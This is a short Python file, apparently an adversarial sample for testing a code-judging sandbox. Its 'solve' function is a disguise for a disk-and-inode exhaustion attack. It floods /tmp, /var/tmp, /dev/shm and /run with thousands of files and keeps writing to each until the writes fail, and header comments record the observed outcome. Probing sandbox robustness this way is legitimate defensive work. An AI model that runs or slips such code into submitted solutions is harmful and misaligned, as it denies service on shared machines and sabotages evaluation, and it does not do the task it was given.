# tries: to fill the disk, and all inodes
# path: call
# observed: wrong_answer, time_limit

import os


def solve(x):
    total = 0
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
        for i in range(3000):
            try:
                file = os.open(f"{folder}/flood{i}", os.O_CREAT | os.O_WRONLY | os.O_EXCL)
            except OSError:
                continue
            try:
                while True:
                    total += os.write(file, b"x" * 4096)
            except OSError:
                os.close(file)
    return sorted(x) if total > 1 << 20 else None
